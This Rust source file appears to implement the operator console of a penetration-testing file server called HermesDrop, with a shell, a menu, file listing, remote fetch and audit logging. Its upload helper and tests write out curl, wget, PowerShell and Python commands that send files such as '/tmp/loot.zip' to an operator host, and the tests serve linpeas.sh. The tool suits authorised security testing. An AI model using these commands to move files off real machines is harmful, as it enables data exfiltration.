//! 操作员控制台：交互式 shell 与编号菜单。
//!
//! 控制台与监听器只通过共享的 `Storage`（当前服务目录）和 `AuditLog` 交互。

use axum::body::Bytes;
use futures_util::stream;
use std::io::{self, BufRead};
use std::path::Path;
use std::sync::Arc;
use tokio::io::{AsyncBufRead, AsyncBufReadExt, AsyncWrite, AsyncWriteExt};
use tokio::sync::mpsc;
use tokio_util::io::StreamReader;
use tracing::warn;

use crate::audit::AuditLog;
use crate::fetch::fetch_into;
use crate::interfaces;
use crate::storage::Storage;
use crate::upload::FileStore;

pub const SHELL_PROMPT: &str = "hermes> ";

const MENU_ITEMS: [&str; 6] = [
    "Fetch file",
    "Upload command",
    "List files",
    "Read logs",
    "List interfaces",
    "Exit",
];

const HELP: &str = "Available commands:
  !ls             list served files as URLs
  !cd <path>      change the served directory (/ resets to the root)
  !pwd            show the served directory
  !post [file]    print upload commands for common clients
  !fetch <url>    download a file into the served directory
  !logs           print the audit log
  !ifaces         list network interfaces and their addresses
  !help           show this help
  !exit           stop the server
Any other input is run by the system shell.";

/// 单条命令执行后的去向。
#[derive(Debug, PartialEq, Eq)]
pub enum Action {
    Continue(String),
    Exit(String),
}

pub struct Console {
    storage: Arc<Storage>,
    store: Arc<FileStore>,
    audit: Arc<AuditLog>,
    client: reqwest::Client,
    base_url: String,
}

impl Console {
    pub fn new(
        storage: Arc<Storage>,
        store: Arc<FileStore>,
        audit: Arc<AuditLog>,
        client: reqwest::Client,
        base_url: String,
    ) -> Self {
        Self {
            storage,
            store,
            audit,
            client,
            base_url,
        }
    }

    /// 执行一行 shell 输入。
    pub async fn execute(&self, line: &str) -> Action {
        let line = line.trim();
        if line.is_empty() {
            return Action::Continue(String::new());
        }
        if !line.starts_with('!') {
            return Action::Continue(run_system(line).await);
        }

        let (command, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
        let arg = unquote(rest.trim());
        let output = match command {
            "!ls" => self.list_files().await,
            "!cd" if arg.is_empty() => "Usage: !cd <path>".to_string(),
            "!cd" => self.change_dir(arg).await,
            "!pwd" => self.storage.base_display(),
            "!post" => self.post_commands(Some(arg).filter(|arg| !arg.is_empty())),
            "!fetch" if arg.is_empty() => "Usage: !fetch <url>".to_string(),
            "!fetch" => self.fetch(arg).await,
            "!logs" => self.read_logs().await,
            "!ifaces" => self.list_interfaces(),
            "!help" => HELP.to_string(),
            "!exit" => {
                self.audit.info("Server exit").await;
                return Action::Exit("Exiting.".to_string());
            }
            other => return Action::Continue(format!("Unknown command: {other}")),
        };
        self.audit.info(&format!("Executed {command}")).await;
        Action::Continue(output)
    }

    /// 当前服务目录下的条目及其完整 URL。
    pub async fn list_files(&self) -> String {
        let base = self.storage.base_path();
        match self.storage.list_dir(&base).await {
            Ok(entries) => {
                let mut output = format!("Files served from {}:", base.display());
                for entry in entries {
                    let suffix = if entry.is_dir { "/" } else { "" };
                    let encoded = entry
                        .path
                        .split('/')
                        .map(|segment| urlencoding::encode(segment).into_owned())
                        .collect::<Vec<_>>()
                        .join("/");
                    output.push_str(&format!("\n  - {}/{encoded}{suffix}", self.base_url));
                }
                output
            }
            Err(err) => format!("Error listing {}: {err}", base.display()),
        }
    }

    pub async fn change_dir(&self, path: &str) -> String {
        match self.storage.change_base(path).await {
            Ok(_) => format!("Now serving {}", self.storage.base_display()),
            Err(err) => format!("Error changing directory: {err}"),
        }
    }

    /// 常见客户端的上传命令。
    pub fn post_commands(&self, file: Option<&str>) -> String {
        let file = file.unwrap_or("your_file.txt");
        let name = Path::new(file)
            .file_name()
            .map(|name| name.to_string_lossy().to_string())
            .unwrap_or_else(|| file.to_string());
        let url = &self.base_url;
        format!(
            "To POST a file to the server use one of the following commands:\n\
             curl -X POST --data-binary @{file} -H \"filename: {name}\" {url}\n\
             Invoke-WebRequest -Method POST -InFile {file} -Headers @{{filename='{name}'}} {url}\n\
             wget --post-file={file} --header='filename: {name}' {url}\n\
             python3 -c \"import requests; requests.post('{url}', data=open('{file}', 'rb'), headers={{'filename': '{name}'}})\""
        )
    }

    pub async fn fetch(&self, url: &str) -> String {
        let dir = self.storage.base_path();
        match fetch_into(&self.client, &self.store, &dir, url).await {
            Ok(stored) => {
                self.audit
                    .info(&format!("Add File: {} from {url}", stored.display()))
                    .await;
                format!("Saved {}", stored.display())
            }
            Err(err) => {
                self.audit
                    .error(&format!("Error while downloading file: {err}"))
                    .await;
                format!("Error while downloading file: {err}")
            }
        }
    }

    /// 本机网卡，便于选择 `--interface` 或判断对端可达的地址。
    pub fn list_interfaces(&self) -> String {
        match interfaces::list_interfaces() {
            Ok(found) => interfaces::describe(&found),
            Err(err) => format!("Error listing interfaces: {err}"),
        }
    }

    pub async fn read_logs(&self) -> String {
        match self.audit.read_entries().await {
            Ok(entries) => entries
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join("\n"),
            Err(err) => format!("Error reading logs: {err}"),
        }
    }
}

fn unquote(value: &str) -> &str {
    for quote in ['"', '\''] {
        if let Some(inner) = value
            .strip_prefix(quote)
            .and_then(|value| value.strip_suffix(quote))
        {
            return inner;
        }
    }
    value
}

async fn run_system(line: &str) -> String {
    #[cfg(windows)]
    let mut command = {
        let mut command = tokio::process::Command::new("cmd");
        command.arg("/C").arg(line);
        command
    };
    #[cfg(not(windows))]
    let mut command = {
        let mut command = tokio::process::Command::new("sh");
        command.arg("-c").arg(line);
        command
    };

    match command.status().await {
        Ok(status) if status.success() => String::new(),
        Ok(status) => format!("Command exited with {status}"),
        Err(err) => {
            warn!(error = %err, "system command failed");
            format!("Error executing command: {line}\n{err}")
        }
    }
}

/// 在独立线程上读取标准输入。
///
/// 阻塞读取不占用运行时的 blocking 线程池，退出时无需等待用户再输入一行。
pub fn stdin_reader() -> impl AsyncBufRead + Unpin {
    let (tx, rx) = mpsc::unbounded_channel::<io::Result<Bytes>>();
    std::thread::spawn(move || {
        let mut stdin = io::stdin().lock();
        loop {
            let mut line = String::new();
            match stdin.read_line(&mut line) {
                Ok(0) => break,
                Ok(_) => {
                    if tx.send(Ok(Bytes::from(line))).is_err() {
                        break;
                    }
                }
                Err(err) => {
                    let _ = tx.send(Err(err));
                    break;
                }
            }
        }
    });
    let lines = stream::unfold(rx, |mut rx| async move {
        rx.recv().await.map(|item| (item, rx))
    });
    StreamReader::new(Box::pin(lines))
}

async fn emit<W: AsyncWrite + Unpin>(output: &mut W, text: &str) -> io::Result<()> {
    if !text.is_empty() {
        output.write_all(text.as_bytes()).await?;
        output.write_all(b"\n").await?;
    }
    output.flush().await
}

/// 持久交互式 shell，遇到 `!exit` 或输入结束时返回。
pub async fn run_shell<R, W>(console: &Console, input: R, mut output: W) -> io::Result<()>
where
    R: AsyncBufRead + Unpin,
    W: AsyncWrite + Unpin,
{
    emit(&mut output, "HermesDrop interactive shell. Type !help for commands.").await?;
    let mut lines = input.lines();
    loop {
        output.write_all(SHELL_PROMPT.as_bytes()).await?;
        output.flush().await?;
        let Some(line) = lines.next_line().await? else {
            emit(&mut output, "\nExiting.").await?;
            console.audit.info("Server exit").await;
            return Ok(());
        };
        match console.execute(&line).await {
            Action::Continue(text) => emit(&mut output, &text).await?,
            Action::Exit(text) => return emit(&mut output, &text).await,
        }
    }
}

/// 编号菜单，选择 Exit 或输入结束时返回。
pub async fn run_menu<R, W>(console: &Console, input: R, mut output: W) -> io::Result<()>
where
    R: AsyncBufRead + Unpin,
    W: AsyncWrite + Unpin,
{
    let mut lines = input.lines();
    loop {
        let mut menu = String::from("\nMenu:");
        for (index, item) in MENU_ITEMS.iter().enumerate() {
            menu.push_str(&format!("\n{}. {item}", index + 1));
        }
        menu.push_str("\nEnter your choice: ");
        output.write_all(menu.as_bytes()).await?;
        output.flush().await?;

        let Some(line) = lines.next_line().await? else {
            console.audit.info("Server exit").await;
            return emit(&mut output, "\nExiting...").await;
        };
        let choice = line.trim().parse::<usize>().ok();
        let text = match choice {
            Some(1) => {
                output
                    .write_all(b"Enter the URL to download the file from: ")
                    .await?;
                output.flush().await?;
                match lines.next_line().await? {
                    Some(url) => console.fetch(&url).await,
                    None => String::new(),
                }
            }
            Some(2) => console.post_commands(None),
            Some(3) => console.list_files().await,
            Some(4) => console.read_logs().await,
            Some(5) => console.list_interfaces(),
            Some(6) => {
                console.audit.info("Server exit").await;
                return emit(&mut output, "Exiting...").await;
            }
            _ => {
                emit(&mut output, "Invalid choice.").await?;
                continue;
            }
        };
        if let Some(item) = choice.and_then(|choice| MENU_ITEMS.get(choice - 1)) {
            console.audit.info(&format!("Executed {item}")).await;
        }
        emit(&mut output, &text).await?;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::CollisionPolicy;
    use chrono::Local;
    use tempfile::TempDir;

    async fn make_console() -> (TempDir, Console) {
        let temp = tempfile::tempdir().expect("tempdir");
        let files = temp.path().join("files");
        std::fs::create_dir_all(files.join("win tools")).unwrap();
        std::fs::write(files.join("linpeas.sh"), b"#!/bin/sh").unwrap();
        let storage = Arc::new(Storage::open(&files).await.expect("storage"));
        let audit = Arc::new(
            AuditLog::create(&temp.path().join("logs"), Local::now())
                .await
                .expect("audit"),
        );
        let console = Console::new(
            storage,
            Arc::new(FileStore::new(CollisionPolicy::Rename)),
            audit,
            reqwest::Client::builder().no_proxy().build().expect("client"),
            "http://10.10.14.2:8000".to_string(),
        );
        (temp, console)
    }

    fn text(action: Action) -> String {
        match action {
            Action::Continue(text) | Action::Exit(text) => text,
        }
    }

    #[tokio::test]
    async fn ls_prints_full_urls() {
        let (_temp, console) = make_console().await;
        let output = text(console.execute("!ls").await);
        assert!(output.contains("\n  - http://10.10.14.2:8000/win%20tools/"));
        assert!(output.contains("\n  - http://10.10.14.2:8000/linpeas.sh"));
    }

    #[tokio::test]
    async fn ifaces_lists_loopback() {
        let (_temp, console) = make_console().await;
        let output = text(console.execute("!ifaces").await);
        assert!(output.starts_with("Network interfaces:"), "{output}");
        assert!(output.contains("127.0.0.1"), "{output}");
    }

    #[tokio::test]
    async fn cd_changes_what_is_served() {
        let (_temp, console) = make_console().await;
        assert_eq!(
            text(console.execute("!cd win tools").await),
            "Now serving /win tools"
        );
        assert_eq!(text(console.execute("!pwd").await), "/win tools");
        let listing = text(console.execute("!ls").await);
        assert!(!listing.contains("linpeas.sh"));

        assert_eq!(text(console.execute("!cd ..").await), "Now serving /");
        assert_eq!(
            text(console.execute("!cd ../..").await),
            "Error changing directory: path escapes the serving root"
        );
        assert_eq!(text(console.execute("!cd").await), "Usage: !cd <path>");
        assert_eq!(text(console.execute("!pwd").await), "/");
    }

    #[tokio::test]
    async fn post_prints_raw_body_commands() {
        let (_temp, console) = make_console().await;
        let output = text(console.execute("!post /tmp/loot.zip").await);
        assert!(output.contains(
            "curl -X POST --data-binary @/tmp/loot.zip -H \"filename: loot.zip\" http://10.10.14.2:8000"
        ));
        assert!(output.contains("-Headers @{filename='loot.zip'}"));
        assert!(output.contains("--header='filename: loot.zip'"));
        assert!(output.contains("data=open('/tmp/loot.zip', 'rb')"));
        assert!(text(console.execute("!post").await).contains("@your_file.txt"));
    }

    #[tokio::test]
    async fn shell_session_is_scripted_and_audited() {
        let (_temp, console) = make_console().await;
        let script: &[u8] = b"!pwd\n!cd \"win tools\"\n!bogus\n!exit\n!ls\n";
        let mut output = Vec::new();
        run_shell(&console, script, &mut output).await.expect("shell");
        let output = String::from_utf8(output).unwrap();

        assert!(output.contains("hermes> /\n"));
        assert!(output.contains("Now serving /win tools"));
        assert!(output.contains("Unknown command: !bogus"));
        assert!(output.trim_end().ends_with("Exiting."));
        assert!(!output.contains("Files served from"));

        let messages: Vec<_> = console
            .audit
            .read_entries()
            .await
            .unwrap()
            .into_iter()
            .map(|entry| entry.message)
            .collect();
        assert_eq!(messages, vec!["Executed !pwd", "Executed !cd", "Server exit"]);
    }

    #[tokio::test]
    async fn menu_handles_choices_until_exit() {
        let (_temp, console) = make_console().await;
        let script: &[u8] = b"3\n9\nabc\n2\n5\n6\n";
        let mut output = Vec::new();
        run_menu(&console, script, &mut output).await.expect("menu");
        let output = String::from_utf8(output).unwrap();

        assert!(output.contains("1. Fetch file"));
        assert!(output.contains("http://10.10.14.2:8000/linpeas.sh"));
        assert_eq!(output.matches("Invalid choice.").count(), 2);
        assert!(output.contains("curl -X POST"));
        assert!(output.contains("6. Exit"));
        assert!(
            output.contains("Network interfaces:")
                || output.contains("Error listing interfaces")
        );
        assert!(output.trim_end().ends_with("Exiting..."));

        let messages: Vec<_> = console
            .audit
            .read_entries()
            .await
            .unwrap()
            .into_iter()
            .map(|entry| entry.message)
            .collect();
        assert_eq!(
            messages,
            vec![
                "Executed List files",
                "Executed Upload command",
                "Executed List interfaces",
                "Server exit"
            ]
        );
    }
}
